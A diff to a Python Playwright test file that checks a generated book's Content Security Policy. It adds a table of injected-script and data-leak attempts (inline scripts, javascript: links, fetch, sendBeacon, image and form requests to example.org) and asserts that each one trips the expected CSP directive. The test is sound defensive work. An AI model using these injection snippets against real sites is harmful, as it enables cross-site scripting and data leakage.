@@ -1,4 +1,7 @@
-"""What a hostile row of the tables does to a reader: nothing. It shows as the text it is."""
+"""What is hostile does nothing to a reader: a row of the tables shows as the text it is.
+
+And where some text came to be markup after all, the policy of the pages stops it.
+"""
 
 from __future__ import annotations
 
@@ -14,8 +17,8 @@ import nbformat
 import pandas as pd
 import pytest
 import yaml
-from browsing import serve
-from conftest import visiting
+from browsing import serve, show_all, until
+from conftest import Visit, visiting
 from playwright.sync_api import Browser
 
 from dyadbook.book.build import stage
@@ -102,7 +105,7 @@ def address(hostile: Path) -> Iterator[str]:
 @pytest.mark.parametrize("page", SHOWN)
 def test_a_hostile_row_shows_as_text(browser: Browser, address: str, page: str) -> None:
     with visiting(browser, address, f"{page}.html") as opened:
-        opened.add_style_tag(content="* { content-visibility: visible !important; }")
+        show_all(opened)
         opened.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
         opened.evaluate("for (const one of document.querySelectorAll('main a.fact')) one.click()")
         text = " ".join(opened.locator("main").inner_text().split())
@@ -116,3 +119,70 @@ def test_a_hostile_row_is_found_as_text(browser: Browser, address: str) -> None:
         opened.locator("#search-results a").first.wait_for()
         assert opened.evaluate("window.hacked") is None
         assert opened.locator("#search-results :is(script, img)").count() == 0
+
+
+ATTACKS = {
+    "a script in the page": ("add('script', {textContent: 'hacked = 1'})", "script-src-elem"),
+    "a script of a data address": ("add('script', {src: 'data:,hacked=1'})", "script-src-elem"),
+    "a script of another host": ("add('script', {src: 'https://example.org/x.js'})", "script-src-elem"),
+    "a handler": ("add('p').innerHTML = '<b onclick=hacked=1>'; it.firstChild.click()", "script-src-attr"),
+    "code made of text": ("setTimeout('hacked = 1')", "script-src"),
+    "a link that is code": ("add('a', {href: 'javascript:hacked=1'}).click()", "script-src-elem"),
+    "a style in the page": ("add('style', {textContent: '* { color: red }'})", "style-src-elem"),
+    "a style of an element": ("add('p').innerHTML = '<b style=color:red>x</b>'", "style-src-attr"),
+    "a style sheet of another host": (
+        "add('link', {rel: 'stylesheet', href: 'https://example.org/x.css'})", "style-src-elem",
+    ),
+    "a picture that tells another host": ("add('img', {src: 'https://example.org/?told'})", "img-src"),
+    "a request": ("fetch('https://example.org/?told').catch(() => {})", "connect-src"),
+    "a beacon": ("navigator.sendBeacon('https://example.org/?told')", "connect-src"),
+    "a form to another host": (
+        "add('form', {action: 'https://example.org/', method: 'post'}).submit()", "form-action",
+    ),
+    "another base of all links": ("add('base', {href: 'https://example.org/'})", "base-uri"),
+    "a page within the page": ("add('iframe', {src: 'https://example.org/'})", "frame-src"),
+    "an object": ("add('object', {data: 'https://example.org/x.pdf'})", "object-src"),
+}  # fmt: skip
+"""Things that markup or a script can try, and the directive of the policy that forbids each."""
+
+WITNESS = """
+    window.forbidden = [];
+    document.addEventListener("securitypolicyviolation", (event) => forbidden.push(event.effectiveDirective));
+    window.add = (name, properties = {}) => {
+        window.it = Object.assign(document.createElement(name), properties);
+        document.body.append(it);
+        return it;
+    };
+"""
+
+
+@pytest.mark.parametrize("way", ["server", "file"])
+def test_the_policy_stops_what_would_get_through(browser: Browser, html: Path, served: str, way: str) -> None:
+    address = f"{served if way == 'server' else html.as_uri()}/book/citing.html"
+    page = browser.new_page()
+    page.add_init_script(WITNESS)
+    page.goto(address)
+    assert page.evaluate("forbidden") == []
+    for name, (attack, directive) in ATTACKS.items():
+        page.evaluate(f"() => {{ forbidden.length = 0; {attack}; }}")
+        until(lambda: page.evaluate("forbidden.length") > 0)
+        assert page.evaluate("forbidden") == [directive], name
+    assert page.evaluate("window.hacked") is None
+    assert page.url == address
+    page.close()
+
+
+def test_a_live_chart_tells_of_its_marks(anyway: Visit) -> None:
+    """Vega's own styles are forbidden too: what a mark tells has those of the book."""
+    with anyway("notebooks/claims.html") as page:
+        frame = page.locator(".frame:has(script.vega-lite, .vega-chart)").first
+        frame.scroll_into_view_if_needed()
+        mark = page.locator(".vega-chart .mark-text.role-mark text").first
+        mark.wait_for()
+        mark.hover()
+        told = page.locator(".vg-tooltip.visible")
+        told.wait_for()
+        assert told.locator("tr").count() == 5
+        assert told.evaluate("one => getComputedStyle(one).position") == "fixed"
+        page.mouse.move(0, 0)
+        told.wait_for(state="hidden")
